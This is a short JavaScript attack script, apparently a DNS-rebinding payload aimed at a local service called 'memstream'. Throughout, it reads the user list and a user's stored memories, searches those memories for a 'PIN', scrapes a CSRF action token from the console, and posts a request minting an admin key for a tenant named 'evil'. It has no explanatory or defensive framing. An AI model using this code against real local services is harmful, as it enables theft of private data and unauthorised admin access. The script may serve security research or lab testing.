// A page whose name now resolves to 127.0.0.1, reading memstream as its own origin.
const {user} = window.CONFIG;
(async () => {
  const read = [];
  const ask = async (path, init) => {
    try {
      const answer = await fetch(path, init);
      read.push({path, status: answer.status, text: await answer.text()});
    } catch (error) { read.push({path, status: 0, text: String(error)}); }
  };
  await ask("/v1/users");
  await ask("/v1/memories?user_id=" + encodeURIComponent(user));
  await ask("/v1/search", {method: "POST", headers: {"content-type": "application/json"},
                           body: JSON.stringify({user_id: user, query: "PIN"})});
  await ask("/console/keys");
  const token = (read[read.length - 1].text.match(/name="action_token" value="([^"]+)"/) || [])[1];
  const mint = new URLSearchParams({tenant: "evil", role: "admin", action_token: token || "x"});
  await ask("/console/keys", {method: "POST", body: mint});
  window.__read = read;
})();
